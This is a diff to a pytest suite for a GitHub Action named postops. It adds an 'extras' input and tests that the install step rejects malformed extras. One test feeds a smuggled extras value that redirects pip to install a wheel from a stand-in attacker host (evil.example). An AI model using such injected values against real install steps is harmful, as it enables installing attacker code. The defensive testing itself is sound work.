@@ -132,7 +132,7 @@ def test_plan_job_posts_one_comment_and_skips_it_for_forks(github):
     assert checkout["with"]["fetch-depth"] == 0
     [plan] = steps_using(job, ACTION_REF)
     assert plan["with"] == {"command": "plan --format markdown --changed-since origin/${{ github.base_ref }}",
-                            "output": "plan.md"}
+                            "output": "plan.md", "extras": "tone"}
     [comment] = steps_using(job, "actions/github-script@")
     assert FORK_CHECK in comment["if"]
     assert "<!-- postops-plan -->" in comment["with"]["script"]
@@ -208,7 +208,7 @@ def test_publish_checks_out_main_with_history_and_runs_publish(github):
     [checkout] = steps_using(job, "actions/checkout@")
     assert checkout["with"] == {"ref": "main", "fetch-depth": 0}
     [publish] = steps_using(job, ACTION_REF)
-    assert publish["with"] == {"command": "publish"}
+    assert publish["with"] == {"command": "publish", "extras": "tone"}
     assert publish["env"]["GITHUB_TOKEN"] == "${{ github.token }}"
 
 
@@ -388,15 +388,28 @@ def test_action_can_write_the_output_to_a_file(action, tmp_path):
     assert (tmp_path / "plan.md").read_text() == "plan: plan --format markdown\n"
 
 
-@pytest.mark.parametrize("version, expected", [("", "/actions/postops"), ("0.3.1", "postops==0.3.1")])
-def test_action_installs_its_own_checkout_or_a_version(action, tmp_path, version, expected):
+@pytest.mark.parametrize("version, extras, expected", [
+    ("", "", "/actions/postops"), ("0.3.1", "", "postops==0.3.1"),
+    ("", "tone", "/actions/postops[tone]"), ("0.3.1", "tone", "postops[tone]==0.3.1")])
+def test_action_installs_its_own_checkout_or_a_version(action, tmp_path, version, extras, expected):
     step = _action_step(action, "Install postops")
     assert step["env"] == {"POSTOPS_VERSION": "${{ inputs.version }}",
-                           "POSTOPS_ACTION_PATH": "${{ github.action_path }}"}
+                           "POSTOPS_ACTION_PATH": "${{ github.action_path }}",
+                           "POSTOPS_EXTRAS": "${{ inputs.extras }}"}
     fake_command(tmp_path / "bin", "python", 'echo "$*"')
     result = run_bash(step["run"], tmp_path, {"POSTOPS_VERSION": version, "POSTOPS_ACTION_PATH": "/actions/postops",
+                                              "POSTOPS_EXTRAS": extras,
                                               "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"})
     assert result.returncode == 0
     assert result.stdout.split()[:3] == ["-m", "pip", "install"]
     assert result.stdout.split()[-1] == expected
 
+
+
+def test_action_refuses_extras_that_are_not_names(action, tmp_path):
+    step = _action_step(action, "Install postops")
+    fake_command(tmp_path / "bin", "python", 'echo "$*"')
+    result = run_bash(step["run"], tmp_path, {"POSTOPS_VERSION": "", "POSTOPS_ACTION_PATH": "/a",
+                                              "POSTOPS_EXTRAS": "tone] @ https://evil.example/x.whl #",
+                                              "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"})
+    assert result.returncode == 2 and result.stdout == ""
